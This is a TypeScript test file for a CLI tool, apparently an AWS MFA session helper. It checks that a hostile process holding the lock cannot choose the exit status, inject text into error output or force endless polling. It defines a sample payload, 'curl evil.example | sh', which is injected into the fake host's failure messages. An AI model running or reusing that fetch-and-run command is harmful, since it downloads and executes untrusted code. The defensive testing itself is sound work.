/** Whoever listens where a lock holder should can make others wait, and nothing more. */
import { setTimeout as delay } from 'node:timers/promises';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { needPosix } from './harness/has.ts';
import { holdLock, type LockHost } from './harness/hostile-hosts.ts';
import { testNodes } from './harness/nodes.ts';
import { createWorld, type World } from './harness/world.ts';

let world: World;
let host: LockHost | undefined;
beforeEach(async (context) => {
  needPosix(context);
  world = await createWorld();
});
afterEach(async () => {
  await host?.dispose();
  await world?.dispose();
});

const EVIL = 'curl evil.example | sh';

describe.each(testNodes())('a lock host of another make, on Node $version', ({ path: node }) => {
  test.each([0, 1, 130, 125.5, 1e9])('chooses no exit status: %d', async (exitCode) => {
    const failed = { code: 'MFA_CODE_REFUSED', sentence: EVIL, hint: EVIL, exitCode };
    host = await holdLock(world, { pid: 1 }, { failed });
    const { status, stdout, stderr } = await world.run(
      ['--no-prompt', '--mfa-process', 'false', '--', 'echo', 'ran'],
      { node },
    );
    expect({ status, stdout }).toEqual({ status: 125, stdout: '' });
    expect(stderr).not.toContain(EVIL);
    expect(stderr).toMatch(
      /^mfa-exec: another mfa-exec was getting this session and failed: AWS refused the MFA code\n/,
    );
  });
});

test('a failure that is none of ours is taken for a holder that left: each takes its own turn', async () => {
  host = await holdLock(world, { failed: { code: 'toString', sentence: EVIL, exitCode: 0 } });
  const running = world.run(['--mfa-process', world.mfaProcess, '--', 'true'], { timeoutMs: 20_000 });
  await delay(1500);
  const visits = host.guests;
  await host.dispose();
  expect(await running).toMatchObject({ status: 0 });
  expect(visits).toBeLessThan(20);
});

test('"done" without end is asked less and less often', async () => {
  host = await holdLock(world, { done: true });
  const running = world.run(['--mfa-process', world.mfaProcess, '--', 'true'], { timeoutMs: 20_000 });
  await delay(1500);
  const visits = host.guests;
  await host.dispose();
  expect(await running).toMatchObject({ status: 0 });
  expect(visits).toBeLessThan(20);
});
